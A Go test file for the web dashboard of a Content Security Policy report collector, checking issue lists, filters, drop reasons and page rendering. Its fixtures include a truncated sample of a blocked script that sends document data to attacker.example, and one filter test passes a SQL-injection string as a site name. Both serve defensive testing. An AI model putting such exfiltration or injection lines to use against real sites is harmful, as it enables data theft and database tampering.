package dash_test

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"golang.org/x/net/html"

	"github.com/merlon-sec/merlon/cmd/merlon/internal/dash"
	"github.com/merlon-sec/merlon/cmd/merlon/internal/store"
	"github.com/merlon-sec/merlon/report"
)

func TestIssueList(t *testing.T) {
	r := newRig(t)
	r.realistic()
	doc := r.page("/", 200, r.logIn())
	want := []string{"Framing attempt", "A form that posts elsewhere", "An inline script without the nonce", "An image from another site"}
	if got := texts(doc, "td.what a.headline"); !slices.Equal(got, want) {
		t.Fatalf("headlines %q, want %q", got, want)
	}
	rows := find(doc, "table.rows tbody tr")
	wantText(t, rows[2], "td.what div.sample code", `fetch("https://attacker.example/?"+documen`)
	wantText(t, rows[2], "span.split", "14 blocked 12 report-only")
	wantText(t, rows[2], "time", "1 min ago 2026-03-26 00:03")
	wantText(t, rows[2], "time", "36 h ago 2026-03-24 12:00")
	wantText(t, rows[3], "span.count", "1 234")
	wantText(t, rows[3], "span.split", "1 200 report-only 34 not said")
	wantText(t, rows[3], "code.directive", "img-src")
	wantText(t, rows[3], "td.what code", "https://images.example")
	if got := texts(rows[3], "ul.pages li"); !slices.Equal(got, []string{"/", "/products/{id}"}) {
		t.Errorf("pages %q, want the most frequent first", got)
	}
	wantText(t, doc, "p.total", "4 issues · 1 205 dropped reports")
}

func TestIssueFilter(t *testing.T) {
	r := newRig(t)
	r.realistic()
	cookie := r.logIn()
	tests := []struct {
		query string
		want  []string
	}{
		{"?site=blog.example", []string{"A form that posts elsewhere"}},
		{"?site=shop.example&directive=img-src", []string{"An image from another site"}},
		{"?directive=frame-ancestors", []string{"Framing attempt"}},
		{"?site=blog.example&directive=img-src", nil},
		{"?site=" + url.QueryEscape("' OR 1=1 --"), nil},
	}
	for _, tt := range tests {
		doc := r.page("/"+tt.query, 200, cookie)
		if got := texts(doc, "a.headline"); !slices.Equal(got, tt.want) {
			t.Errorf("%s: %q, want %q", tt.query, got, tt.want)
		}
		if tt.want == nil {
			wantText(t, doc, "section p", "No issue matches this filter. Show all issues")
		}
		values, _ := url.ParseQuery(tt.query[1:])
		for _, name := range []string{"site", "directive"} {
			if got := selected(doc, name); got != values.Get(name) {
				t.Errorf("%s: the form shows %s %q", tt.query, name, got)
			}
		}
	}
}

// selected is the value that a select of the page shows.
func selected(doc *html.Node, name string) string {
	for _, s := range find(doc, "form.filter select") {
		if attr(s, "name") != name {
			continue
		}
		for _, o := range find(s, "option") {
			if slices.ContainsFunc(o.Attr, func(a html.Attribute) bool { return a.Key == "selected" }) {
				return attr(o, "value")
			}
		}
	}
	return ""
}

func TestIssueListIsBounded(t *testing.T) {
	r := newRig(t)
	var b store.Batch
	for i := range store.MaxIssues {
		b.Add(r.complete(store.Hit{Directive: "img-src", Class: "origin", Blocked: fmt.Sprintf("https://%d.example", i)}))
	}
	b.Add(r.complete(store.Hit{Site: "blog.example", Directive: "font-src", Class: "origin", Blocked: "https://fonts.example"}))
	r.commit(&b)
	cookie := r.logIn()
	doc := r.page("/", 200, cookie)
	if n := len(find(doc, "table.rows tbody tr")); n != 200 {
		t.Errorf("%d rows, want 200", n)
	}
	wantText(t, doc, "p.total", "at least 5 000 issues, the last 200 shown")
	wantText(t, r.page("/?site=blog.example", 200, cookie), "p.total", "1 issue")
}

func TestOneIssue(t *testing.T) {
	r := newRig(t)
	r.realistic()
	cookie := r.logIn()
	list := r.page("/", 200, cookie)
	link := func(i int) string { return attr(find(list, "a.headline")[i], "href") }
	framed := r.page(link(0), 200, cookie)
	wantText(t, framed, "h1", "Framing attempt")
	wantText(t, framed, "p.lead", "The browser refused to show your page inside a frame of another page: https://attacker.example")
	wantText(t, framed, "dd code", "https://attacker.example")
	wantText(t, framed, "table.plain td", "/transfer")
	wantText(t, framed, "table.plain td", "131")
	image := r.page(link(3), 200, cookie)
	wantText(t, image, "p.lead", "With this policy enforced, the browser would refuse to load an image: https://images.example")
	wantText(t, image, "section.facts p", "Some browsers do not say whether the policy was enforced.")
	wantText(t, image, "dd", "https://images.example another origin")
}

func TestDrops(t *testing.T) {
	r := newRig(t)
	cookie := r.logIn()
	wantText(t, r.page("/drops", 200, cookie), "section p", "No report was dropped so far.")
	r.realistic()
	rows := find(r.page("/drops", 200, r.logIn()), "table.rows tbody tr")
	if len(rows) != 2 {
		t.Fatalf("%d rows, want 2", len(rows))
	}
	wantText(t, rows[0], "td span.count", "1 200")
	wantText(t, rows[0], "td strong", "About a page of another site")
	wantText(t, rows[1], "td strong", "Not JSON")
	wantText(t, rows[1], "td code", "not-json")
}

func TestEmptyPageTeaches(t *testing.T) {
	r := newRig(t, func(c *dash.Config) { c.ReportURL = "http://shop.example:8080/.merlon/r" })
	doc := r.page("/", 200, r.logIn())
	wantText(t, doc, "h2", "No reports yet")
	command := texts(doc, "pre code")[0]
	for _, want := range []string{"'http://shop.example:8080/.merlon/r?d=r'", `"document-uri": "http://shop.example:8080/test"`} {
		if !strings.Contains(command, want) {
			t.Errorf("the command lacks %s:\n%s", want, command)
		}
	}
	_, body, _ := strings.Cut(command, "--data '")
	reports, err := report.Decode([]byte(strings.TrimSuffix(body, "'")))
	if err != nil || len(reports) != 1 || reports[0].Violation == nil || reports[0].Violation.BlockedURL != "https://images.example/test.png" {
		t.Errorf("the body of the command decodes to %+v, %v", reports, err)
	}
}

func TestNotice(t *testing.T) {
	r := newRig(t, func(c *dash.Config) { c.Notice = "only <here>" })
	wantText(t, r.page("/login", 200, nil), "p.notice", "only <here>")
}

func TestPagesInParallel(t *testing.T) {
	r := newRig(t)
	r.realistic()
	cookie := r.logIn()
	var wg sync.WaitGroup
	for i := range 8 {
		wg.Go(func() {
			for _, target := range []string{"/", "/issues/1", "/drops", "/login", "/none"} {
				r.do("GET", target, nil, cookie)
			}
			r.do("POST", "/login", url.Values{"token": {fmt.Sprint(i)}}, nil)
		})
		wg.Go(func() {
			r.do("POST", "/logout", url.Values{}, nil)
		})
	}
	wg.Wait()
	r.page("/", 200, cookie)
}

func TestEveryReasonHasWords(t *testing.T) {
	r := newRig(t)
	reasons := []string{"foreign", "type", "not-json", "not-a-report", "too-large", "too-many", "too-deep", "incomplete", "preflight", "method"}
	var b store.Batch
	for _, name := range append(reasons, "of a later version") {
		b.Drop("shop.example", name, r.clock.Now(), 1)
	}
	r.commit(&b)
	cookie := r.logIn()
	without := map[string]bool{}
	for _, row := range find(r.page("/drops", 200, cookie), "tbody tr") {
		if texts(row, "strong")[0] == "Another reason" {
			without[texts(row, "td.what code")[0]] = true
		}
	}
	if len(without) != 1 || !without["of a later version"] {
		t.Errorf("reasons without words: %v, want the unknown one alone", without)
	}
}
